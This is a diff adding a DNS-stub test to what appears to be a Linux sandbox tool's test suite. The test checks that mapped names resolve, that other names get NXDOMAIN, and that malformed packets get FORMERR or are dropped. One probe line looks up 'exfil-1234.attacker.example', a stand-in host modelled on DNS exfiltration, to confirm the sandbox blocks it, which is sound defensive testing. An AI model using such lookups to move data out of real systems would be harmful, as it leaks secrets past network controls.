@@ -17,6 +17,7 @@ limits the filesystem when asked, and a user namespace refused by
 user.max_user_namespaces gives one line naming it.
 """
 
+import ast
 import ctypes
 import json
 import os
@@ -224,6 +225,64 @@ class SandboxCase(unittest.TestCase):
             p = self.run_tool([], ["/nonexistent/cmd"], user=user)
             self.assertEqual(p.returncode, 127)
             self.assertIn("exec /nonexistent/cmd: No such file", p.stderr)
+
+    def test_dns_stub(self):
+        """The DNS stub served on the planted 127.0.0.53:53 sockets
+        (UDP and TCP, the resolv.conf pointing there): glibc resolves a
+        mapped name to its 127.77.0.N and connects to the listener
+        planted there, any other name is NXDOMAIN, a malformed query gets
+        FORMERR with its id, a response gets nothing; each query is
+        logged with its decision. (getent ahosts, not ahostsv4: with
+        only lo, glibc's AI_ADDRCONFIG for AF_INET gives up without
+        asking.)"""
+        probe = r"""
+import socket, struct, subprocess, sys
+out = []
+def getent(name):
+    p = subprocess.run(["getent", "ahosts", name], capture_output=True,
+                       text=True)
+    return p.returncode, sorted(set(l.split()[0]
+                                    for l in p.stdout.splitlines()))
+out.append(getent("API.example.com"))
+out.append(getent("exfil-1234.attacker.example"))
+a = socket.getaddrinfo("api.example.com", 443, socket.AF_INET,
+                       socket.SOCK_STREAM)[0][4]
+c = socket.create_connection(a, timeout=3)
+out.append(c.recv(64).decode())
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(1)
+u.sendto(struct.pack("!HHHHHH", 0x4242, 0x0100, 2, 0, 0, 0) + b"\0",
+         ("127.0.0.53", 53))
+out.append(list(u.recv(512)[:4]))
+u.sendto(struct.pack("!HHHHHH", 0x4343, 0x8180, 1, 0, 0, 0) +
+         b"\x01a\0\0\x01\0\x01", ("127.0.0.53", 53))
+try:
+    u.recv(512)
+    out.append("answered")
+except socket.timeout:
+    out.append("silent")
+print(repr(out))
+"""
+        for resolv in ("", "options use-vc\n"):
+            conf = ("nameserver 127.0.0.53\noptions timeout:1 attempts:1\n"
+                    + resolv)
+            opts = ["--resolv", conf, "--dns", "api.example.com=127.77.0.1",
+                    "--listen", "udp:127.0.0.53:53", "--listen",
+                    "tcp:127.0.0.53:53", "--listen", "tcp:127.77.0.1:443"]
+            p = self.run_tool(opts, ["python3", "-c", probe])
+            self.assertEqual(p.returncode, 0, p.stderr)
+            out = ast.literal_eval(p.stdout)
+            self.assertEqual(out[0], (0, ["127.77.0.1"]), resolv)
+            self.assertEqual(out[1], (2, []), resolv)
+            self.assertTrue(out[2].startswith("outside 443 fd "), out)
+            self.assertEqual(out[3], [0x42, 0x42, 0x85, 0x81])  # FORMERR
+            self.assertEqual(out[4], "silent")
+            log = p.stderr.splitlines()
+            self.assertIn("dns.query api.example.com 1 answer", log)
+            self.assertIn("dns.query exfil-1234.attacker.example 1 "
+                          "nxdomain", log)
+            self.assertIn("dns.query - 0 formerr", log)
+            self.assertIn("dns.query - 0 drop", log)
 
     def test_user(self):
         """Root may run the command as another uid/gid (groups: that gid
